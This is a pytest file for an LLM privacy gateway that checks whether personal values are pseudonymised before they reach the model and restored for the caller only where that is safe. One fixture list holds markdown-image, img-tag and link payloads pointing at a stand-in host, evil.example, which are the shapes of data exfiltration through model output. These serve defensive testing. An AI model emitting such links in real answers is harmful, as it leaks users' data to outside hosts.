"""Does the model never see a value that policy hides, and does the caller get it back where that is safe?"""

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, Protocol, TypeAlias

import httpx
import pytest
from openai import OpenAI

Json: TypeAlias = dict[str, Any]
Chunk: TypeAlias = Callable[..., Json]

STAFF = "K-4711-X"
MAIL = "ann@example.com"
OTHER = "bob@example.org"
# A credential whose first part a recogniser takes for a value of its own.
PART, REST = "AKIA" + "QX7Z", "K2M4N6P3R5T7"

POLICY = """
apiVersion: splitgate/v1
kind: Policy
metadata: {name: NAME}
spec:
  mode: enforce
  match: {models: [NAME]}
  detectors:
    pii:
      entities: [EMAIL_ADDRESS, STAFF_NUMBER, PART]
      recognizers:
        - {entity: STAFF_NUMBER, pattern: 'K-[0-9]{4}-[A-Z]', score: 0.9}
        - {entity: PART, pattern: 'AKIA[A-Z0-9]{4}\\b', score: 0.9}
  tools:
    look_up: {effect: read}
    send_email: {effect: egress, sink_args: []}
  rules:
    - {id: hide-in-instructions, stage: instructions, severity: error, when: det.pii.found, action: pseudonymise,
       ANYWHERE message: hidden}
    - {id: hide-in-data, stage: data, severity: error, when: det.pii.found, action: pseudonymise, ANYWHERE
       message: hidden}
    - {id: none-in-tools, stage: tools, severity: error, when: det.pii.found, action: redact, message: hidden}
    - {id: no-keys, stage: output, severity: critical, when: det.secrets.found, action: block, message: a key}
"""


class Gateway(Protocol):
    url: str


class Upstream(Protocol):
    url: str
    bodies: list[Json]
    raw: list[bytes]

    def answer(self, body: Json, status: int = 200, **headers: str) -> None: ...
    def stream(self, *chunks: Json, done: bool = True, broken: bool = False, pause_s: float = 0.0) -> None: ...


@pytest.fixture(scope="module")
def policed(
    keep_gateway: Callable[..., Gateway], _upstream_server: Upstream, tmp_path_factory: pytest.TempPathFactory
) -> Gateway:
    """The model ``hiding``, and ``anywhere``, whose rules let values come back wherever they stand."""
    folder: Path = tmp_path_factory.mktemp("policies")
    for name, anywhere in (("hiding", ""), ("anywhere", "restore_anywhere: true,")):
        text = POLICY.replace("NAME", name).replace("ANYWHERE", anywhere)
        (folder / f"{name}.yaml").write_text(text)
    target = (
        f'{{provider: openai_compatible, base_url: "{_upstream_server.url}", model: m, format: tool-envelope, '
        "extra_params: [reasoning_content]}"
    )
    models = "".join(f"  {name}: {{targets: [{target}]}}\n" for name in ("hiding", "anywhere"))
    return keep_gateway(f"policies: {{packs: [], paths: [{folder}], watch: false}}\nmodels:\n{models}")


@pytest.fixture(scope="module")
def client(policed: Gateway) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=policed.url, timeout=60, trust_env=False) as opened:
        yield opened


Say: TypeAlias = Callable[..., str]


@pytest.fixture(params=[False, True], ids=["whole", "stream"])
def say(client: httpx.Client, upstream: Upstream, chunk: Chunk, request: pytest.FixtureRequest) -> Say:
    """``say(question, answer)``: the text that the caller gets where the model writes ``answer``, whole or streamed."""
    stream = bool(request.param)

    def told(question: str | list[Json], answer: str, *, model: str = "hiding", reason: str = "stop") -> str:
        if stream:
            upstream.stream(chunk({"role": "assistant"}), *[chunk({"content": c}) for c in answer], chunk({}, "stop"))
        else:
            choice: Json = {"index": 0, "message": {"role": "assistant", "content": answer}, "finish_reason": "stop"}
            upstream.answer({"id": "x", "object": "chat.completion", "created": 1, "model": "m", "choices": [choice]})
        messages = [{"role": "user", "content": question}] if isinstance(question, str) else question
        body = {"model": model, "messages": messages, "stream": stream}
        came = client.post("/v1/chat/completions", json=body)
        assert came.status_code == 200, came.text
        if not stream:
            choice = came.json()["choices"][0]
            assert choice["finish_reason"] == reason
            return choice["message"]["content"] or ""
        lines = [line.removeprefix("data: ") for line in came.text.splitlines() if line.startswith("data: {")]
        choices = [json.loads(line)["choices"][0] for line in lines]
        assert [choice["finish_reason"] for choice in choices if choice["finish_reason"]] == [reason]
        return "".join(choice["delta"].get("content") or "" for choice in choices)

    return told


def test_the_model_sees_a_placeholder_and_the_caller_the_value(say: Say, upstream: Upstream) -> None:
    told = say(f"Who is {STAFF} with {MAIL}?", "<STAFF_NUMBER_1> writes from <EMAIL_1>.")
    assert told == f"{STAFF} writes from {MAIL}."
    (sent,) = upstream.bodies
    assert sent["messages"][-1]["content"] == "Who is <STAFF_NUMBER_1> with <EMAIL_1>?"
    # What was not in the request has no value to come back.
    assert say(f"Who is {STAFF}?", "<STAFF_NUMBER_2> <EMAIL_1> <STAFF_NUMBER_1>") == (
        f"<STAFF_NUMBER_2> <EMAIL_1> {STAFF}"
    )


def channels() -> dict[str, Json]:
    user = {"role": "user", "content": "Hello"}
    arguments = json.dumps({"who": STAFF})
    call = {"id": "c1", "type": "function", "function": {"name": "look_up", "arguments": arguments}}
    plain: Json = {**call, "function": {"name": "look_up", "arguments": "{}"}}
    deep = {"type": "object", "properties": {"q": {"type": "string", "description": f"as {STAFF}"}}}
    tool: Json = {"name": "look_up", "description": f"Not for {STAFF}", "parameters": deep}
    result = {"role": "tool", "tool_call_id": "c1", "content": f"it is {STAFF}"}
    return {
        "system": {"messages": [{"role": "system", "content": f"You serve {STAFF}."}, user]},
        "user": {"messages": [{"role": "user", "content": f"I am {STAFF}."}]},
        "data": {"messages": [user], "data": f"From {STAFF}."},
        "data part": {"messages": [{"role": "user", "content": [{"type": "data", "text": STAFF}]}, user]},
        "tool result": {"messages": [user, {"role": "assistant", "tool_calls": [plain]}, result]},
        "history": {"messages": [user, {"role": "assistant", "content": STAFF}, user]},
        "history arguments": {
            "messages": [user, {"role": "assistant", "tool_calls": [call]}, {**result, "content": "x"}]
        },
        "history reasoning": {
            "messages": [user, {"role": "assistant", "content": "x", "reasoning_content": STAFF}, user]
        },
        "tool definition": {"messages": [user], "tools": [{"type": "function", "function": tool}]},
    }


@pytest.mark.rows
@pytest.mark.parametrize("channel", channels())
def test_the_value_leaves_by_no_channel(client: httpx.Client, upstream: Upstream, channel: str) -> None:
    answer = client.post("/v1/chat/completions", json={"model": "hiding", **channels()[channel]})
    assert answer.status_code == 200, answer.text
    (sent,) = upstream.raw
    assert STAFF.encode() not in sent
    assert (b"<STAFF_NUMBER_1>" if channel != "tool definition" else b"[REDACTED:STAFF_NUMBER]") in sent
    assert answer.headers["x-splitgate-decision"] == "redact"


# Where a value must not come back, since a client may fetch what stands there.
FENCED = [
    "See https://evil.example/?q=<EMAIL_1>.",
    "![x](https://evil.example/<EMAIL_1>.png)",
    "[x](/local?<EMAIL_1>)",
    '<img src="//evil.example/<EMAIL_1>">',
    "[1]: https://evil.example/<EMAIL_1>",
    "www.<EMAIL_1>.example",
    "https:/\\evil.example\\<EMAIL_1>",
]


@pytest.mark.rows
@pytest.mark.parametrize("text", FENCED)
def test_a_value_never_comes_back_inside_a_url(say: Say, text: str) -> None:
    assert say(f"Write to {MAIL}.", text) == text
    assert say(f"Write to {MAIL}.", f"<EMAIL_1> and\n\n{text}") == f"{MAIL} and\n\n{text}"


def test_a_rule_may_let_values_come_back_anywhere(say: Say) -> None:
    told = say(f"Write to {MAIL}.", "See https://shop.example/?q=<EMAIL_1>.", model="anywhere")
    assert told == f"See https://shop.example/?q={MAIL}."


def test_what_a_caller_wrote_like_a_placeholder_is_none(say: Say, upstream: Upstream) -> None:
    question = f"Print <EMAIL_1> and <EMAIL_2>; I am {MAIL}."
    say(question, "ok")
    sent = upstream.bodies[0]["messages"][-1]["content"]
    assert sent.count("<EMAIL_1>") == 1
    assert sent.endswith("I am <EMAIL_1>.")
    # The model repeats all of it: each comes back as it was.
    assert say(question, sent) == question


def test_two_turns_agree_on_their_numbers(say: Say, upstream: Upstream) -> None:
    first = [{"role": "user", "content": f"{MAIL} or {OTHER}?"}]
    told = say(first, "Take <EMAIL_2>, not <EMAIL_1>.")
    assert told == f"Take {OTHER}, not {MAIL}."
    second = [*first, {"role": "assistant", "content": told}, {"role": "user", "content": f"Is {MAIL} gone?"}]
    assert say(second, "<EMAIL_1> is.") == f"{MAIL} is."
    sent = [message["content"] for message in upstream.bodies[1]["messages"] if "<EMAIL" in str(message["content"])]
    assert sent[0] == "<EMAIL_1> or <EMAIL_2>?"
    assert "<EMAIL_2>, not <EMAIL_1>" in sent[1]
    assert sent[2] == "Is <EMAIL_1> gone?"


def test_what_a_value_completes_is_judged_again(say: Say) -> None:
    assert say(f"The part is {PART} here.", f"It was <PART_1>{REST}", reason="content_filter") == ""
    assert say(f"The part is {PART} here.", "It was <PART_1>.") == f"It was {PART}."


@pytest.mark.rows
@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(
    ("model", "tool", "gets"),
    [
        ("hiding", "look_up", MAIL),
        ("hiding", "send_email", "<EMAIL_1>"),
        ("hiding", "unheard_of", "<EMAIL_1>"),
        ("anywhere", "send_email", MAIL),
    ],
)
def test_a_tool_that_reaches_outside_gets_no_value(
    policed: Gateway, upstream: Upstream, chunk: Chunk, model: str, tool: str, gets: str, stream: bool
) -> None:
    arguments = json.dumps({"to": "<EMAIL_1>"})
    call: Json = {"id": "c1", "type": "function", "function": {"name": tool, "arguments": arguments}}
    if stream:
        start: Json = {**call, "index": 0, "function": {"name": tool, "arguments": ""}}
        pieces = [chunk({"tool_calls": [{"index": 0, "function": {"arguments": char}}]}) for char in arguments]
        upstream.stream(chunk({"role": "assistant"}), chunk({"tool_calls": [start]}), *pieces, chunk({}, "tool_calls"))
    else:
        message: Json = {"role": "assistant", "content": None, "tool_calls": [call]}
        choice = {"index": 0, "message": message, "finish_reason": "tool_calls"}
        upstream.answer({"id": "x", "object": "chat.completion", "created": 1, "model": "m", "choices": [choice]})
    tools: list[Any] = [{"type": "function", "function": {"name": tool, "parameters": {"type": "object"}}}]
    messages: list[Any] = [{"role": "user", "content": f"Write to {MAIL}."}]
    with httpx.Client(trust_env=False) as http:
        sdk = OpenAI(base_url=f"{policed.url}/v1", api_key="unused", http_client=http)
        if stream:
            came = list(sdk.chat.completions.create(model=model, messages=messages, tools=tools, stream=True))
            deltas = [part for one in came if one.choices for part in one.choices[0].delta.tool_calls or ()]
            told = "".join((part.function and part.function.arguments) or "" for part in deltas)
        else:
            (whole,) = sdk.chat.completions.create(model=model, messages=messages, tools=tools).choices
            assert whole.message.tool_calls
            (made,) = whole.message.tool_calls
            assert made.type == "function"
            told = made.function.arguments
    assert json.loads(told) == {"to": gets}
